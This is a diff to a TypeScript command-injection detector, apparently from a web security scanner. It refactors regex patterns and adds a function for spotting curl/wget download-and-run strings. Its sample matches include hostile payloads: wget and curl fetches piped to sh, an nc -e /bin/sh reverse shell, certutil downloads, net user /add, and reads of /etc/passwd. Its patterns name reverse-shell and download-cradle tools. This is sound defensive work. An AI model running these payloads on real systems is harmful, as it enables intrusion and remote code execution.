@@ -1,8 +1,36 @@
-import type { Detector } from './detector.ts'
+import type { Detector, Span } from './detector.ts'
 import { cmdlet } from './shell/commands.ts'
 import { findCommand, findHiddenCommand, findLeadingCommand, isCommand } from './shell/judge.ts'
 
 const everywhere = ['query', 'body', 'path', 'referer', 'userAgent', 'user'] as const
+
+/** What a command line holds and a sentence does not: paths, options with what they take, redirections. */
+const commandLine = [
+  /\s\/\w|:\/\/|\s\.{1,2}\/|>\s?\S|\|\s?\w|[a-z]:\\/i,
+  /\s-\w+\s+\S*[/\d'"]/,
+  /\s-[bdf-km-oqs-z\d_]*[acelrp]\w*$/i,
+]
+
+const downloader = /\b(?:curl|wget|lwp-download)\s{1,4}/g
+const usedAddress = /["']?(?:https?|ftp):\/\/[^\s|;&]+\s*(?:[|;&>)`]|--?[oO])/y
+const word = /[\w./=-]+\s+/y
+const mostWords = 8
+
+/** A download whose address is followed by what runs or saves it. */
+function findDownload(text: string): Span | undefined {
+  for (const { 0: tool, index } of text.matchAll(downloader)) {
+    let at = index + tool.length
+    for (let n = 0; n <= mostWords; n++) {
+      usedAddress.lastIndex = at
+      if (usedAddress.test(text)) return { start: index, end: usedAddress.lastIndex }
+      word.lastIndex = at
+      if (!word.test(text)) break
+      at = word.lastIndex
+    }
+  }
+  const match = /\btftp\s-[gr]\s/.exec(text) ?? /\bcurl\s-[a-z]+\s["']?[\w.-]+[:/]/i.exec(text)
+  return match ? { start: match.index, end: match.index + match[0].length } : undefined
+}
 
 export const commandInjection: Detector = {
   id: 'command-injection',
@@ -55,7 +83,11 @@ export const commandInjection: Detector = {
       signs: [';', '|', '&', '`', '$(', '\n'],
       structure: 'as cmdi-separator, outside the comment brackets that user agents carry',
       find: (text) =>
-        findCommand(text.replace(/(?<!\$)\([^()]{0,300}\)/g, (comment) => '('.repeat(comment.length))),
+        findCommand(
+          text.replace(/\$?\([^()]*\)/g, (comment) =>
+            comment.startsWith('$') ? comment : '('.repeat(comment.length),
+          ),
+        ),
       confidence: 0.7,
       matches: ['x;wget http://203.0.113.9/a', 'Mozilla/5.0 `id`', 'x | /bin/sh'],
       ignores: [
@@ -90,11 +122,7 @@ export const commandInjection: Detector = {
       ],
       structure: 'a command at the start of a value, with an option, path or redirection behind it',
       find: (text) =>
-        /(?:\s\/\w|:\/\/|\s-\w+\s+\S*[/\d'"]|\s\.{1,2}\/|>\s?\S|\|\s?\w|[a-z]:\\|\s-\w*[acelrp]\w*$)/i.test(
-          text,
-        )
-          ? findLeadingCommand(text)
-          : undefined,
+        commandLine.some((pattern) => pattern.test(text)) ? findLeadingCommand(text) : undefined,
       confidence: 0.55,
       matches: ['a=cat+/etc/passwd', 'a=wget+http://203.0.113.9/x.sh', 'a=nc+-e+/bin/sh+203.0.113.9+4444'],
       ignores: ['q=cat+food', 'q=find+a+shop', 'q=sort+-+price', 'q=ping+pong+table'],
@@ -123,7 +151,11 @@ export const commandInjection: Detector = {
       view: 'shell',
       signs: ['bin/', 'cmd.exe', 'command.com', 'comspec', 'powershell', '/dev/tcp', '/dev/udp', 'system32'],
       patterns: [
-        /\/(?:usr\/(?:local\/)?)?s?bin\/(?:[a-z]{0,3}sh|bash|busybox|env|cat|ls|id|nc|ncat|netcat|wget|curl|perl|python\d?|ruby|php|uname|whoami|ping|echo|rm|nslookup|tail|head|more|less|sleep|find|awk|sed|telnet|touch|chmod|ps|kill)\b|\/dev\/(?:tcp|udp)\/|\bcmd(?:\.exe)?\s{0,4}(?:\/{1,2}|\?\/)[ckq]\b|\b(?:system32|winnt)[\\/]{1,4}[\w\\/]{0,20}(?:cmd|command|powershell|calc|net|ping|certutil)\b|%COMSPEC%|\bcommand\.com\b|[\\/]cmd\.exe(?![\w.-])/i,
+        /\/s?bin\/(?:[a-z]{0,3}sh|bash|busybox|env|cat|ls|id|nc|ncat|netcat|wget|curl|perl|python\d?|ruby|php|uname|whoami|ping|echo|rm|nslookup|tail|head|more|less|sleep|find|awk|sed|telnet|touch|chmod|ps|kill)\b/i,
+        /\/dev\/(?:tcp|udp)\//i,
+        /\bcmd(?:\.exe)?\s{0,4}(?:\/{1,2}|\?\/)[ckq]\b/i,
+        /\b(?:system32|winnt)[\\/]{1,4}[\w\\/]{0,20}(?:cmd|command|powershell|calc|net|ping|certutil)\b/i,
+        /%COMSPEC%|\bcommand\.com\b|[\\/]cmd\.exe(?![\w.-])/i,
       ],
       confidence: 0.75,
       matches: [
@@ -160,7 +192,13 @@ export const commandInjection: Detector = {
         'socat',
       ],
       patterns: [
-        /\b(?:perl|python[23]?|ruby|php|node|lua|bash|sh|zsh|ksh|dash)\s{1,4}-[a-z]{0,3}[ceri]\b\s{0,3}\S|\b(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd)?\s{1,4}(?:-[a-z]{1,6}\s{1,4}){0,4}[^&\n]{0,60}(?:-[ec]\b|\d{2,5}\b)|\bmkfifo\s{1,3}\/|\b(?:powershell|pwsh)(?:\.exe)?\s{1,4}[-"'(/&i]|\bbase64\s{1,3}-{1,2}d|\|\s{0,3}(?:ba|z|k|da)?sh\b|\bawk\s{1,3}['"]?(?:BEGIN|\{)|\bsocat\s{1,3}(?:tcp|exec|-)/i,
+        /\b(?:perl|python[23]?|ruby|php|node|lua|bash|sh|zsh|ksh|dash)\s{1,4}-[a-z]{0,3}[ceri]\b\s{0,3}\S/i,
+        /\b(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd)?\s[^&\n]{0,28}-[ec]\b/i,
+        /\b(?:nc|ncat|netcat)(?:\.exe|\.traditional|\.openbsd)?\s[^&\n]{0,24}\d{2,5}\b/i,
+        /\bmkfifo\s{1,3}\//i,
+        /\b(?:powershell|pwsh)(?:\.exe)?\s{1,4}[-"'(/&i]/i,
+        /\bbase64\s{1,3}-{1,2}d|\|\s{0,3}(?:ba|z|k|da)?sh\b/i,
+        /\bawk\s{1,3}['"]?(?:BEGIN|\{)|\bsocat\s{1,3}(?:tcp|exec|-)/i,
       ],
       confidence: 0.65,
       matches: [
@@ -179,10 +217,9 @@ export const commandInjection: Detector = {
       view: 'decoded',
       signs: ['-', 'iex', 'downloadstring', 'frombase64string', 'webclient'],
       patterns: [
-        new RegExp(
-          `(?:${cmdlet.source})(?=\\s{0,4}[-($'"|/{\\\\\\w])|\\biex\\s{0,3}[(&$]|\\bDownload(?:String|File)\\s?\\(|FromBase64String\\s?\\(|Net\\.WebClient|-(?:EncodedCommand|ExecutionPolicy)\\s|-e(?:nc?)?\\s{1,3}[A-Za-z0-9+/]{20}|\\$env:[a-z]`,
-          'i',
-        ),
+        cmdlet,
+        /\biex\s{0,3}[(&$]|\bDownload(?:String|File)\s?\(|FromBase64String\s?\(|Net\.WebClient/i,
+        /-(?:EncodedCommand|ExecutionPolicy)\s|-e(?:nc?)?\s{1,3}[A-Za-z0-9+/]{20}|\$env:[a-z]/i,
       ],
       confidence: 0.6,
       matches: [
@@ -200,7 +237,12 @@ export const commandInjection: Detector = {
       view: 'decoded',
       signs: ['ifs', '$@', '${', "$'", '/?', '?/', '*/', '{', "''", '""', '\\', '^', '$9', '$(('],
       patterns: [
-        /\$\{?IFS\b|\/(?:[a-z?*]{0,6}\?[a-z?*]{0,6}\/){1,4}[\w?*]{1,20}|\{(?:cat|ls|wget|curl|nc|echo|ping|id|sleep|bash|sh|uname|tac|nl|head|tail|base64),[^{}]{1,200}\}|\$\{(?:PATH|HOME|PWD|SHELL|HOSTNAME|OLDPWD|IFS|LS_COLORS|BASH\w{0,12})(?::|%|#|\})|\$'\\x[0-9a-f]{2}|\b(?:c\\?a\\t|c\\at|ca\\t|w['"]{2}ho|who['"]{2}ami|c['"]{2}at|ca['"]{2}t|l['"]{2}s|w\^h\^o|ne\^t|p\^ing|n\^e\^t)\b|\$\(\(|\b[a-z]{1,6}\$[@*][a-z]{1,8}\b|\$\{[@!#]\w{0,20}\}/i,
+        /\$\{?IFS\b|\$\(\(|\$'\\x[0-9a-f]{2}/i,
+        /\/[a-z?*]{0,6}\?[a-z?*]{0,6}\/[\w?*]/i,
+        /\{(?:cat|ls|wget|curl|nc|echo|ping|id|sleep|bash|sh|uname|tac|nl|head|tail|base64),[^{}]{1,28}\}/i,
+        /\$\{(?:PATH|HOME|PWD|SHELL|HOSTNAME|OLDPWD|IFS|LS_COLORS|BASH\w{0,12})[:%#}]/i,
+        /\b(?:c\\?a\\t|c\\at|ca\\t|w['"]{2}ho|who['"]{2}ami|c['"]{2}at|ca['"]{2}t|l['"]{2}s|w\^h\^o|ne\^t|p\^ing|n\^e\^t)\b/i,
+        /\b[a-z]{1,6}\$[@*][a-z]{1,8}\b|\$\{[@!#]\w{0,12}\}/i,
       ],
       confidence: 0.55,
       matches: ['a=cat${IFS}x', 'a=/???/??t', 'a={cat,x}', 'a=;${HOME:0:1}etc'],
@@ -214,7 +256,10 @@ export const commandInjection: Detector = {
       view: 'decoded',
       signs: ['>', '<'],
       patterns: [
-        /(?:[^<>=-]|^)>{1,2}\s{0,3}(?:\/(?:tmp|var|dev|etc|home|usr)\/|[\w./\\-]{1,60}\.(?:php|jsp|aspx?|sh|txt|bat|pl|py)\b|&\s?\d)|[;|&]\s?[\w/]{0,20}\s?<\s?\/(?:etc|proc|var)\/|\b[12]>&[12]|\d?>\s?\/dev\/null/i,
+        /(?:[^<>=-]|^)>{1,2}\s{0,3}(?:\/(?:tmp|var|dev|etc|home|usr)\/|&\s?\d)/i,
+        /(?:[^<>=-]|^)>{1,2}\s{0,3}[\w./\\-]{1,24}\.(?:php|jsp|aspx?|sh|txt|bat|pl|py)\b/i,
+        /[;|&]\s?[\w/]{0,20}\s?<\s?\/(?:etc|proc|var)\//i,
+        /\b[12]>&[12]|>\s?\/dev\/null/i,
       ],
       confidence: 0.5,
       matches: ['a=x+>+/tmp/a', 'a=echo+1>>shell.php', 'a=x+2>%261'],
@@ -226,7 +271,7 @@ export const commandInjection: Detector = {
       fields: [...everywhere, 'host'],
       view: 'decoded',
       signs: ['()'],
-      patterns: [/^[\w=\s]{0,20}\(\)\s{0,4}\{[^}]*\}\s?;/, /^[\w=\s]{0,20}\(\)\s?\{\s?_;\s?\}/],
+      patterns: [/^[\w=\s]*\(\)\s*\{[^}]*\}\s?;/, /^[\w=\s]{0,20}\(\)\s?\{\s?_;\s?\}/],
       confidence: 0.9,
       matches: ['a=()+{+:;};+/bin/bash', 'a=()+{+ignored;};id', 'a=()+{+_;+}+>_[$($())]+{+id;+}'],
       ignores: ['q=f()', 'q=main()+{', 'q=()'],
@@ -261,7 +306,18 @@ export const commandInjection: Detector = {
         'ipconfig',
       ],
       patterns: [
-        /\bnet\s{1,3}(?:user|localgroup|group|view|share|start|stop|use)\b(?:\s{0,3}$|[^\n]{0,60}(?:\/add|\/domain|\\\\|administrators))|\breg\s{1,3}(?:add|query|delete|save|export)\s{1,3}["']?hk|\bcertutil\s[\s\S]{0,40}-(?:urlcache|decode|encode)|\bbitsadmin\s{1,3}\/|\bmshta\s{1,3}(?:https?|vbscript|javascript):|\bregsvr32\s{1,3}\/|\brundll32\s{1,3}[\w.:\\/]{1,60},|\bwmic\s{1,3}(?:process|os|\/node|qfe|service|useraccount)|\bschtasks\s{1,3}\/|\bnetsh\s{1,3}(?:firewall|advfirewall|wlan|interface)|\bvssadmin\s{1,3}\w|\bfor\s{1,3}\/[fdlr]\s{1,3}|\btype\s{1,3}(?:%\w+%|[a-z]:\\)|%(?:systemroot|windir|programfiles|appdata|temp|userprofile)%[\\/]|\bdir\s{1,3}(?:\/[a-z]|[a-z]:\\)|\bping\s{1,3}-[nitc]\s{1,3}\d|\bipconfig\s{0,3}\/all/i,
+        /\bnet\s{1,3}(?:user|localgroup|group|view|share|start|stop|use)\s{0,3}$/i,
+        /\bnet\s{1,3}(?:user|localgroup|group|view|share|start|stop|use)\b[^\n]{0,26}(?:\/add|\/domain|\\\\|administrators)/i,
+        /\breg\s{1,3}(?:add|query|delete|save|export)\s{1,3}["']?hk/i,
+        /\bcertutil\s[\s\S]{0,28}-(?:urlcache|decode|encode)/i,
+        /\bmshta\s{1,3}(?:https?|vbscript|javascript):/i,
+        /\b(?:bitsadmin|regsvr32|schtasks)\s{1,3}\/|\bipconfig\s{0,3}\/all/i,
+        /\brundll32\s+[\w.:\\/]+,/i,
+        /\bwmic\s{1,3}(?:process|os|\/node|qfe|service|useraccount)/i,
+        /\bnetsh\s{1,3}(?:firewall|advfirewall|wlan|interface)|\bvssadmin\s{1,3}\w/i,
+        /\bfor\s{1,3}\/[fdlr]\s|\bdir\s{1,3}(?:\/[a-z]|[a-z]:\\)|\bping\s{1,3}-[nitc]\s{1,3}\d/i,
+        /\btype\s{1,3}(?:%\w{1,20}%|[a-z]:\\)/i,
+        /%(?:systemroot|windir|programfiles|appdata|temp|userprofile)%[\\/]/i,
       ],
       confidence: 0.65,
       matches: ['a=net+user+x+y+/add', 'a=certutil+-urlcache+-f+http://x/y', 'a=type+c:\\boot.ini'],
@@ -288,7 +344,11 @@ export const commandInjection: Detector = {
       view: 'decoded',
       signs: ['do ', 'then', 'esac', '. /', '. ~', '){', ') {'],
       patterns: [
-        /\b(?:for|while|until)\s[^;\n]{1,30}[;\n]\s{0,4}do\s|\bif\s{1,4}(?:\[{1,2}|test)\s[^;\n]{1,30}[;\n]\s{0,4}then\b|\)\s{0,4}[^;]{1,30};;\s{0,4}esac|[;|&]\s{0,4}\.\s{1,4}[~/]\w|[;|&]\s?(?:function\s)?\w{1,20}\s?\(\)\s?\{/,
+        /\b(?:for|while|until)\s[^;\n]{1,28}[;\n]\s?do\s/,
+        /\bif\s(?:\[\[?|test)\s[^;\n]{1,28}[;\n]\s?then\b/,
+        /;;\s{0,4}esac\b/,
+        /[;|&]\s{0,4}\.\s{1,4}[~/]\w/,
+        /[;|&]\s?(?:function\s)?\w{1,20}\s?\(\)\s?\{/,
       ],
       confidence: 0.65,
       matches: [
@@ -306,9 +366,9 @@ export const commandInjection: Detector = {
       fields: everywhere,
       view: 'shell',
       signs: ['curl', 'wget', 'lwp-download', 'fetch ', 'tftp'],
-      patterns: [
-        /\b(?:curl|wget|lwp-download)\s{1,4}(?:-{1,2}[\w-]{1,20}[\s=]{1,3}){0,4}(?:[\w./-]{1,30}\s{1,3})?["']?(?:https?|ftp):\/\/[^\s|;&]+\s{0,4}(?:[|;&>]|-{1,2}[oO]|\)|`)|\btftp\s{1,3}-[gr]\s|\bcurl\s{1,3}-[A-Za-z]{1,6}\s{1,3}["']?[\w.-]+[:/]/,
-      ],
+      structure:
+        'curl or wget with an address that a pipe, a separator or -o follows; tftp -g; curl with options and a host',
+      find: findDownload,
       confidence: 0.65,
       matches: [
         'a=x+curl+http://203.0.113.9/i.sh|sh',
@@ -352,7 +412,10 @@ export const commandInjection: Detector = {
         '-f ',
       ],
       patterns: [
-        /&\s?\(\s?['"]\w{1,12}['"]\s?\+|\.ForEach\s?[({]|\[(?:System\.)?(?:Convert|Text\.Encoding|Net\.\w+|IO\.\w+|Diagnostics\.\w+|Reflection\.Assembly|Char|ref|Environment)\](?:::|\s?\d|\.)|\|\s?%\s?\{|-join\s?[('[]|\(\s?['"]\{\d\}[^'"]{0,30}['"]\s?-f\s/i,
+        /&\s?\(\s?['"]\w{1,12}['"]\s?\+/i,
+        /\.ForEach\s?[({]|\|\s?%\s?\{|-join\s?[('[]/i,
+        /\[(?:System\.)?(?:Convert|Text\.Encoding|(?:Net|IO|Diagnostics)\.\w{1,20}|Reflection\.Assembly|Char|ref|Environment)\](?:::|\s?\d|\.)/i,
+        /\(\s?['"]\{\d\}[^'"]{0,28}['"]\s?-f\s/i,
       ],
       confidence: 0.6,
       matches: [
